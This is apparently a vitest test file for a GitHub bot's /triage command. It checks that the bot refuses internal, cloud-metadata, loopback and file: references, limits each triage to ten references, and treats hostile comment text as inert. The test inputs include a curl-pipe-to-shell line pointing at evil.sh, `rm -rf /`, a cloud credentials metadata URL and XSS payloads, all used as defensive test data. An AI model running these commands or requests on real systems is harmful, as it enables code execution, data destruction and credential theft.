import nock from "nock";
import { describe, expect, it } from "vitest";
import { API, useTestApp, mockNoConfig, payload, REPO_PATH } from "../app/helpers.js";

const t = useTestApp();

function command(body: string) {
  return payload("issue_comment", "created", (p) => {
    p.comment.body = body;
    p.comment.id = 4242;
    p.comment.user = { ...p.comment.user, login: "maintainer", type: "User" };
  });
}

/** Permission, reaction, then the report comment; returns what was posted. */
function expectTriage(): string[] {
  const bodies: string[] = [];
  mockNoConfig();
  nock(API)
    .get(`${REPO_PATH}/collaborators/maintainer/permission`)
    .reply(200, { role_name: "write", permission: "write" })
    .post(`${REPO_PATH}/issues/comments/4242/reactions`)
    .reply(201, {})
    .get(`${REPO_PATH}/issues/1/comments`)
    .query(true)
    .reply(200, [])
    .post(`${REPO_PATH}/issues/1/comments`, (b: { body: string }) => bodies.push(b.body) > 0)
    .reply(201, { id: 1 });
  return bodies;
}

describe("hostile comments", () => {
  it("refuses internal, metadata, loopback and file: references before fetching anything, and says why", async () => {
    const bodies = expectTriage();
    const refs = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "https://10.0.0.7/build-log.txt", "https://[::1]:8443/log", "file:///etc/passwd", "https://127.0.0.1/x"];
    await t.probot.receive({ id: "h-1", name: "issue_comment", payload: command(`/triage ${refs.join(" ")}`) });
    await t.settle();
    const body = bodies[0]!;
    expect(body).toContain("References not triaged");
    for (const line of body.split("\n").filter((l) => l.startsWith("- "))) expect(line).toMatch(/not an allowed host|not allowed|refused|only https|scheme|private|loopback|link-local|expected/i);
    expect(body.split("\n").filter((l) => l.startsWith("- ")).length).toBeGreaterThanOrEqual(refs.length);
  });

  it("bounds the work of a /triage with thousands of references and explains the cut once", async () => {
    const bodies = expectTriage();
    const refs = Array.from({ length: 5000 }, (_, i) => `https://example.invalid/logs/${i}.txt`);
    await t.probot.receive({ id: "h-2", name: "issue_comment", payload: command(`/triage ${refs.join(" ")}`) });
    await t.settle();
    const body = bodies[0]!;
    expect(body).toContain("4990 further reference(s) ignored: at most 10 per triage");
    // Only the first ten references were looked at (each refused line names its URL once).
    expect(new Set(body.match(/logs\/\d+\.txt/g)).size).toBe(10);
  });

  it("treats shell metacharacters and Markdown/HTML in references as text", async () => {
    const bodies = expectTriage();
    await t.probot.receive({ id: "h-3", name: "issue_comment", payload: command("/skewbot $(curl${IFS}evil.sh|sh) ;rm -rf / `id` <img src=x onerror=alert(1)> [x](javascript:alert(1)) @org/admins") });
    await t.settle();
    const body = bodies[0]!;
    const prose = body.replace(/(`+)[^`]*?\1/g, "");
    // Escaped as text: "\<img" renders as "<img", "@\u200borg" mentions nobody, "\](" links nowhere.
    expect(prose).not.toMatch(/(^|[^\\])<img|@org\/admins|(^|[^\\])\]\(javascript:/);
    expect(prose).toContain("\\<img");
    expect(body).toContain("References not triaged");
  });
});
